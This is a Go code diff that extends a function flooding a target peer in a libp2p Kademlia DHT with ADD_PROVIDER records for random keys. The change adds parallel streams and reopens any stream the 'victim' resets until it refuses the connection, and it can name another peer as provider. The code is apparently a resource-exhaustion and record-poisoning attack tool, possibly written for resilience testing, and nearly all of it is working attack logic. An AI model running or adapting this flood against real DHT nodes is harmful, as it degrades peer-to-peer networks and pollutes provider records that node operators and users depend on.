@@ -5,6 +5,7 @@ import (
 	"crypto/rand"
 	"crypto/sha256"
 	"fmt"
+	"sync"
 
 	pb "github.com/libp2p/go-libp2p-kad-dht/pb"
 	"github.com/libp2p/go-libp2p/core/host"
@@ -32,22 +33,52 @@ type ProviderFlood struct {
 }
 
 // FloodProviders sends n ADD_PROVIDER messages for random keys from h to
-// target, all naming h itself as the provider (so a victim that stores
-// only records whose provider is the sender stores them), down one stream
-// as fast as the stream takes them; when the victim resets the stream a
-// new one is opened, until the victim refuses the connection. When
-// otherProvider is set, every record names that peer instead.
-func FloodProviders(ctx context.Context, h host.Host, target peer.ID, n int, otherProvider *peer.AddrInfo) ProviderFlood {
-	var res ProviderFlood
+// target on streams parallel streams, each as fast as its stream takes
+// them, all naming h itself as the provider (so a victim that stores only
+// records whose provider is the sender stores them); a stream the victim
+// resets is replaced by a new one, until the victim refuses the
+// connection or ctx ends. When otherProvider is set, every record names
+// that peer instead.
+func FloodProviders(ctx context.Context, h host.Host, target peer.ID, n, streams int, otherProvider *peer.AddrInfo) ProviderFlood {
 	prov := peer.AddrInfo{ID: h.ID(), Addrs: h.Addrs()}
 	if otherProvider != nil {
 		prov = *otherProvider
 	}
 	var (
-		str network.Stream
-		w   pbio.WriteCloser
+		mu  sync.Mutex
+		res ProviderFlood
+		wg  sync.WaitGroup
+	)
+	share := n / max(streams, 1)
+	for i := range streams {
+		if i == streams-1 {
+			share = n - share*(streams-1)
+		}
+		wg.Go(func() {
+			r := floodProviders(ctx, h, target, share, prov)
+			mu.Lock()
+			defer mu.Unlock()
+			res.Sent += r.Sent
+			res.Streams += r.Streams
+			res.BytesOut += r.BytesOut
+			if res.Err == nil {
+				res.Err = r.Err
+			}
+		})
+	}
+	wg.Wait()
+	return res
+}
+
+func floodProviders(ctx context.Context, h host.Host, target peer.ID, n int, prov peer.AddrInfo) ProviderFlood {
+	var res ProviderFlood
+	var (
+		str  network.Stream
+		w    pbio.WriteCloser
+		stop = func() bool { return true }
 	)
 	defer func() {
+		stop()
 		if str != nil {
 			str.Close()
 		}
@@ -64,7 +95,10 @@ func FloodProviders(ctx context.Context, h host.Host, target peer.ID, n int, oth
 				res.Err = fmt.Errorf("open stream after %d records: %w", res.Sent, err)
 				return res
 			}
+			stop()
 			str, w = s, pbio.NewDelimitedWriter(s)
+			// A write blocked by the victim's flow control ends with ctx.
+			stop = context.AfterFunc(ctx, func() { s.Reset() })
 			res.Streams++
 		}
 		rand.Read(key)
